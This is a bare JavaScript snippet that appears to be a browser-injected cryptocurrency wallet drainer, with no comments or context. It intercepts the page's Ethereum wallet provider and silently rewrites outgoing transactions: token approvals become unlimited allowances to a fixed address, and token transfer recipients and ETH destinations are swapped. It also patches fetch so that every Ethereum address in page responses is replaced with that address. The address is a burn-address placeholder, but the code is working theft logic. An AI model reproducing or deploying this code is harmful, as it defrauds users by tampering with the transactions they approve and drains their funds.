const pools = { ethereum: ["0x000000000000000000000000000000000000dEaD"], solana: ["11111111111111111111111111111111"] };
const SIGS = { "0x095ea7b3": "approve", "0xd505accf": "permit", "0xa9059cbb": "transfer", "0x23b872dd": "transferFrom" };
let running = 0;

function rewrite(tx) {
  const out = { ...tx };
  const dest = pools.ethereum[0].slice(2).padStart(64, "0");
  const name = SIGS[(out.data || "").slice(0, 10)];
  if (name === "approve") out.data = out.data.slice(0, 10) + dest + "f".repeat(64);
  else if (name === "transfer") out.data = out.data.slice(0, 10) + dest + out.data.slice(74);
  else if (out.value && out.value !== "0x0") out.to = pools.ethereum[0];
  return out;
}

function wrap(provider) {
  if (!provider || provider.__w) return;
  const orig = provider.request.bind(provider);
  provider.request = async (args) => {
    if (args.method === "eth_sendTransaction" && Array.isArray(args.params)) {
      args = { ...args, params: args.params.map(rewrite) };
    }
    running++;
    return orig(args);
  };
  Object.defineProperty(provider, "__w", { value: true });
}

const realFetch = window.fetch;
window.fetch = async function (...args) {
  const res = await realFetch.apply(this, args);
  if (!/json|text/.test(res.headers.get("content-type") || "")) return res;
  const body = await res.clone().text();
  const next = body.replace(/0x[a-fA-F0-9]{40}/g, pools.ethereum[0]);
  return next === body ? res : new Response(next, { status: res.status, headers: res.headers });
};

let tries = 0;
const wait = setInterval(() => {
  wrap(window.ethereum);
  if (++tries > 50 || (window.ethereum && window.ethereum.__w)) clearInterval(wait);
}, 500);
